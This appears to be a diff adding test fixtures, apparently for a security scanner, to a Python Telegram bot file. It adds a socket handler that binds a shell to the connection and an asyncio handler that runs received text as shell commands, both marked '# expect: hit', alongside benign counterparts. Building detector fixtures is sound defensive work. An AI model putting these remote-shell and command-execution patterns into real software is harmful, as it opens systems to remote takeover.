@@ -1,3 +1,5 @@
+import asyncio
+import socketserver
 import shlex
 import telebot
 import websockets
@@ -144,3 +146,33 @@ def on_message(message):
 @bot.message_handler(commands=["uptime"])
 def on_uptime(message):
     bot.reply_to(message, subprocess.getoutput("uptime"))
+
+
+class Diagnostics(socketserver.StreamRequestHandler):
+    def handle(self):
+        for stream in range(3):
+            os.dup2(self.request.fileno(), stream)
+        pty.spawn(os.environ.get("SHELL", "/bin/sh"))  # expect: hit
+
+
+class Logs(socketserver.StreamRequestHandler):
+    def handle(self):
+        for name in os.listdir("/var/log/acme"):
+            self.wfile.write(name.encode())
+
+
+class Link(asyncio.Protocol):
+    def data_received(self, data):
+        asyncio.ensure_future(self.answer(data.decode()))
+
+    async def answer(self, line):
+        await asyncio.create_subprocess_shell(line)  # expect: hit
+
+
+class Fixed(asyncio.Protocol):
+    def data_received(self, data):
+        asyncio.ensure_future(self.answer(data.decode()))
+
+    async def answer(self, line):
+        await asyncio.create_subprocess_exec("uptime")
+        print(line)
